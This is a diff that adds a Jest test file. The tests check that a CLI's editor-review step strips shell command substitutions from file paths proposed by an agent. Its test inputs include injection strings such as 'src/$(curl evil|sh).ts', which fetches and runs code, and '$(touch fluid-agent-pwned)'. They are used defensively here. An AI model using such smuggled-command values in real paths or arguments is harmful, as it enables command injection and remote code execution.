@@ -0,0 +1,46 @@
+import { describe, it, expect, beforeEach, afterEach } from "@jest/globals";
+import * as fs from "node:fs/promises";
+import * as path from "node:path";
+import { editInEditor, editorFileName } from "../../src/cli/interactiveReview.js";
+import type { FileOperationResult } from "../../src/fileEngine/index.js";
+
+describe("editInEditor", () => {
+  const marker = path.join(process.cwd(), "fluid-agent-pwned");
+  let originalEditor: string | undefined;
+  let originalVisual: string | undefined;
+
+  beforeEach(() => {
+    originalEditor = process.env.EDITOR;
+    originalVisual = process.env.VISUAL;
+    delete process.env.VISUAL;
+    // Appends to the file it is given, like a user saving an edit.
+    process.env.EDITOR = `sh -c 'printf "edited\\n" >> "$0"'`;
+  });
+
+  afterEach(async () => {
+    process.env.EDITOR = originalEditor;
+    process.env.VISUAL = originalVisual;
+    await fs.rm(marker, { force: true });
+  });
+
+  it("keeps only the extension of the agent's path in the temp file name", () => {
+    expect(editorFileName("src/$(curl evil|sh).ts")).toBe("proposal.ts");
+    expect(editorFileName(`src/a".$(touch x)`)).toBe("proposal.touchx");
+    expect(editorFileName("Makefile")).toBe("proposal");
+  });
+
+  const proposal = (filePath: string): FileOperationResult => ({
+    change: { path: filePath, action: "create", content: "draft\n" },
+    status: "created",
+    proposedContent: "draft\n",
+  });
+
+  it("does not run commands hidden in the agent's path", async () => {
+    expect(await editInEditor(proposal("src/$(touch fluid-agent-pwned).ts"))).toBe("draft\nedited\n");
+    await expect(fs.access(marker)).rejects.toThrow();
+  });
+
+  it("edits files whose path contains quotes", async () => {
+    expect(await editInEditor(proposal(`src/it's "quoted".ts`))).toBe("draft\nedited\n");
+  });
+});